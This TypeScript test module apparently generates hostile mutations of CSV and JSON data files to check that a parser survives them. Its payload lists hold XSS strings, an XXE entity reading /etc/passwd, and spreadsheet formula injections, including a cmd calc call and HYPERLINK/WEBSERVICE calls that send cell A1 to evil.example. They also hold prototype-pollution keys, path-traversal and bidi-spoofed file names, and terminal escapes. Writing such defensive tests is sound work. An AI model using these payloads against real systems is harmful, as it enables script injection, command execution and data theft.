/** What somebody would write into a ledger, a setting or a reply to do harm to whoever reads it or what is made of it. */
import { bytesOf, csvOf, FOLDER, JSON_FILES, LEDGER_FILES, recordsOf, SPOTS, textOf, type Draws } from './folder.ts';
import type { Kind, Spoiled } from './spoiling.ts';

/** Markup, and what ends the places that texts are put into. */
const MARKUP = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  `' onmouseover='alert(1)`,
  '</script><script>alert(1)</script>',
  '</title></style></textarea></svg><script>alert(1)</script>',
  '--><b onclick=alert(1)>x</b><!--',
  ']]><x/>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '<a href="javascript:alert(1)">x</a>',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  '${alert(1)}{{alert(1)}}<%= 1 %>',
  "';alert(1);//",
  '\\u003cscript\\u003e',
  '甲院<b>',
];

const LINKS = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  ' javascript:alert(1)',
  '\u0001javascript:alert(1)',
  'javascript&colon;alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:x',
  'file:///etc/passwd',
  '//evil.example/x',
  '\\\\evil.example\\x',
  'https://example.org/"onmouseover="alert(1)',
  'https://example.org/<script>alert(1)</script>',
  'https://javascript:alert(1)@evil.example/',
  'https://example.org/\u202Egnp.exe',
];

/** Before a formula: nothing, what spreadsheets skip, and what cannot be seen. */
const BEFORE = [
  '',
  ' ',
  '\t',
  '\r',
  '\n',
  "'",
  '"',
  '\u0000',
  '\u200b',
  '\ufeff',
  '\u00a0',
  '\u3000',
  '\u202e',
  '&#61;',
];
const SIGNS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫'];
const FORMULAS = [
  '1+1',
  'SUM(A1)',
  "cmd|' /C calc'!A0",
  'HYPERLINK("https://evil.example/?"&A1,"x")',
  'WEBSERVICE("https://evil.example")',
  '"x"',
];

/** Marks of direction: embeddings, overrides, isolates, none of them closed. */
const BIDI = ['\u202a', '\u202b', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u200e', '\u200f', '\u061c'];

/** What a terminal takes for an order. */
const CONTROLS = ['\u001b[2J', '\u001b]0;x\u0007', '\u009b31m', '\u0008\u0008', '\u0000', '\u007f', '\r\r'];

const MANY = 100_000;
const LONG = [
  '长'.repeat(MANY),
  'x'.repeat(MANY),
  '9'.repeat(MANY),
  '1号楼'.padEnd(MANY, '1'),
  '<'.repeat(MANY),
  '"'.repeat(MANY),
  `a${' '.repeat(MANY)}b`,
  '（'.repeat(MANY),
  '；'.repeat(MANY),
  '2018年'.repeat(MANY / 5),
  `1${'0'.repeat(MANY)}e-${MANY}`,
  'a\u0301'.repeat(MANY / 2),
  '&amp;'.repeat(MANY / 5),
];

const NUMBERS = [
  '1e400',
  '-1e400',
  '1e-400',
  '9'.repeat(400),
  `0.${'0'.repeat(400)}1`,
  '-0',
  '0x7fffffff',
  '1e21',
  '\uff11e9',
];

/** Names that objects have without being given them, and others that look-ups trip over. */
const KEYS = [
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'valueOf',
  '__defineGetter__',
  'prototype',
  'length',
  'then',
  'toJSON',
];
/** Those that can be ids. */
const IDS = [
  'constructor',
  'prototype',
  'length',
  'then',
  'size',
  'get',
  'map',
  'at',
  'name',
  'index',
  'con',
  '0',
  '-0',
];

/** Halves of characters and other texts that are none. */
const HALVES = ['\\ud800', '\\udfff', '\\ud800\\ud800', '\\u0000', '\\uffff', '\\u2028', '\\u202e', '\\u001b[2J'];

const inCell = (name: string, make: (text: string, draws: Draws) => string): Kind => ({
  name: `hostile cell: ${name}`,
  isBad: false,
  isHostile: true,
  spoil: (files, draws) => {
    const { file, row, position, text, column } = draws.one(SPOTS);
    const now = make(text, draws);
    const records = recordsOf(files, file).map((cells, i) =>
      i === row ? cells.map((cell, at) => (at === position ? now : cell)) : cells,
    );
    files.set(file, bytesOf(csvOf(records)));
    return { file, what: `${column.name}: ${JSON.stringify(now.slice(0, 80))}` };
  },
});

/** A text alone, behind what stands there, or before it. */
const placed = (texts: readonly string[]) => (text: string, draws: Draws) => {
  const one = draws.one(texts);
  return draws.one([one, text + one, one + text]);
};

/** A kind that does something to the text of one file. */
const inText = (name: string, from: readonly string[], change: (whole: string, draws: Draws) => string): Kind => ({
  name: `hostile text: ${name}`,
  isBad: false,
  isHostile: true,
  spoil: (files, draws): Spoiled | null => {
    const file = draws.one(from);
    const whole = textOf(files.get(file));
    const changed = change(whole, draws);
    files.set(file, bytesOf(changed));
    return changed === whole ? null : { file, what: name };
  },
});

/** The places of the strings of a JSON text, values and keys, without their marks of quotation. */
const strings = (whole: string): readonly (readonly [from: number, to: number])[] =>
  [...whole.matchAll(/"((?:[^"\\]|\\.)*)"(\s*:)?/g)].map(({ index, 1: inner = '' }) => [
    index + 1,
    index + 1 + inner.length,
  ]);

const withString = (whole: string, draws: Draws, written: string): string => {
  const [from, to] = draws.one(strings(whole));
  return draws.one([whole.slice(0, from) + written + whole.slice(to), whole.slice(0, to) + written + whole.slice(to)]);
};

const written = (text: string): string => JSON.stringify(text).slice(1, -1);
const [LEAST_DEEP, MOST_DEEP] = [90, MANY];

/** A value that goes deep, as a list or as objects within each other. */
const deep = (draws: Draws): string => {
  const [open, close] = draws.one([
    ['[', ']'],
    ['{"a":', '}'],
  ] as const);
  const depth = draws.one([LEAST_DEEP, 101, 5000, MOST_DEEP]);
  return `${open.repeat(depth)}1${close.repeat(depth)}`;
};

const withValue = (whole: string, draws: Draws, value: string): string => {
  const places = [...whole.matchAll(/:\s*(?:-?[\d.]+|"(?:[^"\\]|\\.)*"|true|false|null)/g)];
  const { index, 0: old } = draws.one(places);
  return `${whole.slice(0, index)}:${value}${whole.slice(index + old.length)}`;
};

/** An id of the folder under another name wherever it stands. */
const renamedId: Kind = {
  name: 'hostile: an id that is the name of something else',
  isBad: false,
  isHostile: true,
  spoil: (files, draws) => {
    const id = draws.one([
      'c-1',
      'c-2',
      'f-1',
      'g-1',
      's-1',
      'd-1',
      'pub-1',
      'x-1',
      'greening',
      'repairs',
      'coverage',
      'jia',
    ]);
    const key = draws.one(IDS);
    for (const [file, bytes] of FOLDER)
      files.set(file, bytesOf(textOf(bytes).replaceAll(new RegExp(`(?<![\\w-])${id}(?![\\w-])`, 'g'), key)));
    return { file: 'compounds.csv', what: `${id} → ${key}` };
  },
};

const header = (name: string, make: (draws: Draws) => readonly string[]): Kind => ({
  name: `hostile header: ${name}`,
  isBad: false,
  isHostile: true,
  spoil: (files, draws) => {
    const file = draws.one(LEDGER_FILES);
    const more = make(draws);
    const records = recordsOf(files, file).map((cells, i) => [...cells, ...more.map((head) => (i === 0 ? head : 'x'))]);
    files.set(file, bytesOf(csvOf(records)));
    return { file, what: `${more.length} columns: ${(more[0] ?? '').slice(0, 40)}` };
  },
});

/** Files beside the ledgers whose names do harm. */
const NAMES = [
  '../compounds.csv',
  '__proto__.csv',
  'constructor.xlsx',
  `${'1'.repeat(200)}.csv`,
  `compounds${' (1)'.repeat(60)}.csv`,
  '<img src=x onerror=alert(1)>.csv',
  'compounds\u202evsc.exe',
  'compounds\u001b[2J.csv',
  '=1+1.csv',
  'proposals/__proto__.json',
  'proposals/constructor.json',
  'boundaries/__proto__.geojson',
];

const DAMAGED_BYTES = [
  Buffer.from([0xed, 0xa0, 0x80]),
  Buffer.from([0xff, 0xfe, 0x00, 0xd8]),
  Buffer.from([0x00]),
  Buffer.from([0xf8, 0x88, 0x80, 0x80, 0x80]),
  Buffer.from([0xc0, 0xbc]),
];

export const HOSTILE: readonly Kind[] = [
  inCell('markup', placed(MARKUP)),
  inCell('link', placed(LINKS)),
  inCell('formula', (_, draws) => draws.one(BEFORE) + draws.one(SIGNS) + draws.one(FORMULAS)),
  inCell('direction', placed(BIDI)),
  inCell('order to a terminal', placed(CONTROLS)),
  inCell('long', (_, draws) => draws.one(LONG)),
  inCell('huge number', (_, draws) => draws.one(NUMBERS)),
  inCell('name of a property', (_, draws) => draws.one(KEYS)),
  {
    name: 'hostile bytes: half a character',
    isBad: false,
    isHostile: true,
    spoil: (files, draws) => {
      const file = draws.one([...LEDGER_FILES, ...JSON_FILES]);
      const bytes = Buffer.from(files.get(file) ?? []);
      const at = draws.below(bytes.length);
      files.set(file, Buffer.concat([bytes.subarray(0, at), draws.one(DAMAGED_BYTES), bytes.subarray(at)]));
      return { file, what: `at ${at}` };
    },
  },
  renamedId,
  header('name of a property', (draws) => [draws.one(KEYS)]),
  header('markup', (draws) => [draws.one([...MARKUP, ...LINKS, ...BIDI, ...CONTROLS])]),
  header('long', (draws) => [draws.one(LONG)]),
  header('many', (draws) => Array.from({ length: 2000 }, (_, i) => draws.one([`x${i}`, '', '备注']))),
  inText('many marks of quotation', LEDGER_FILES, (whole) => whole + '"'.repeat(MANY)),
  inText('many commas', LEDGER_FILES, (whole) => whole + ','.repeat(MANY / 10)),
  inText('many empty lines', LEDGER_FILES, (whole) => whole + '\n'.repeat(MANY / 10)),
  inText('JSON, markup', JSON_FILES, (whole, draws) => withString(whole, draws, written(draws.one(MARKUP)))),
  inText('JSON, link', JSON_FILES, (whole, draws) => withString(whole, draws, written(draws.one(LINKS)))),
  inText('JSON, formula', JSON_FILES, (whole, draws) =>
    withString(whole, draws, written(draws.one(BEFORE) + draws.one(SIGNS) + draws.one(FORMULAS))),
  ),
  inText('JSON, direction', JSON_FILES, (whole, draws) => withString(whole, draws, draws.one([...BIDI]))),
  inText('JSON, half a character', JSON_FILES, (whole, draws) => withString(whole, draws, draws.one(HALVES))),
  inText('JSON, long', JSON_FILES, (whole, draws) => withString(whole, draws, written(draws.one(LONG)))),
  inText('JSON, key', JSON_FILES, (whole, draws) => withString(whole, draws, draws.one(KEYS))),
  inText('JSON, keys of every object', JSON_FILES, (whole, draws) => {
    const key = draws.one(KEYS);
    const value = draws.one(['{"polluted": 1}', '{"prototype": {"polluted": 1}}', 'null', '"x"', '[]']);
    return whole.replaceAll(/\{(?=\s*")/g, `{"${key}": ${value}, `);
  }),
  inText('JSON, huge number', JSON_FILES, (whole, draws) => withValue(whole, draws, draws.one(NUMBERS))),
  inText('JSON, deep', JSON_FILES, (whole, draws) => withValue(whole, draws, deep(draws))),
  inText('JSON, many', JSON_FILES, (whole, draws) => withValue(whole, draws, `[${'1,'.repeat(MANY / 10)}1]`)),
  {
    name: 'hostile: name of a file',
    isBad: false,
    isHostile: true,
    spoil: (files, draws) => {
      const from = draws.one([...FOLDER.keys()]);
      const name = draws.one(NAMES);
      files.set(name, FOLDER.get(from) ?? new Uint8Array());
      return { file: name, what: from };
    },
  },
];
